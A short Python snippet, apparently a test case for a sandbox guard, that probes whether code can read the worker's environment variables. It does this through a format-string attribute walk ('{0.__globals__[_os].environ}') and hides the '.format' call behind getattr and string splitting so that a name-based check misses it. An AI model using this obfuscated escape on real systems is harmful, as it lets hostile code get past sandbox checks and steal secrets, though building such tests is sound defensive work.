# A format string built at runtime, its format method reached through getattr so that no
# ".format" appears in the source: the field path walks to the worker's environment.
# Stopped by the runtime guard (format methods are refused by name); with it off, it yields text
# only, and the worker's environment holds no secret.
import random

U = "_" * 2


def label(text):
    template = "{0." + U + "globals" + U + "[_os].environ}"
    environment = getattr(template, "for" + "mat")(random.Random.seed)
    if "@SECRET_NAME@" in environment:
        return 1
    raise RuntimeError("no secret in the worker's environment: " + environment[:120])
